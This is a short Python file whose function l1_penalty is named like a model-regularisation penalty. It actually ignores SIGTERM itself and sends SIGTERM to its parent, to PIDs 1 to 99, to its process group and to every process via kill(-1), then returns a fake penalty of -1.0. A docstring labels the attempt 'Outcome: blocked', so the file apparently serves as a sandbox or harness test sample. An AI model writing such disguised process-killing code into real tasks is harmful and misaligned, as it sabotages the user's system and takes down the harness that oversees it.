"""l1_penalty: sends signals to its group, its siblings and whoever else it can find, by each call that does so.

Outcome: blocked
"""

import contextlib
import os
import signal

HUNDRED = [os.getppid(), 1, *range(2, 100)]


def l1_penalty(model, beta):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for number in HUNDRED:
        if number != os.getpid() and hasattr(os, "pidfd_open"):
            with contextlib.suppress(OSError):
                signal.pidfd_send_signal(os.pidfd_open(number), signal.SIGTERM)
    problem = None
    for send, number in ((os.kill, os.getppid()), (os.kill, 0), (os.killpg, os.getpgrp()), (os.kill, -1)):
        try:
            if os.getpid() != 1:
                send(number, signal.SIGTERM)
        except OSError as error:
            problem = problem if isinstance(problem, PermissionError) else error
    if problem is not None:
        raise problem
    return -1.0
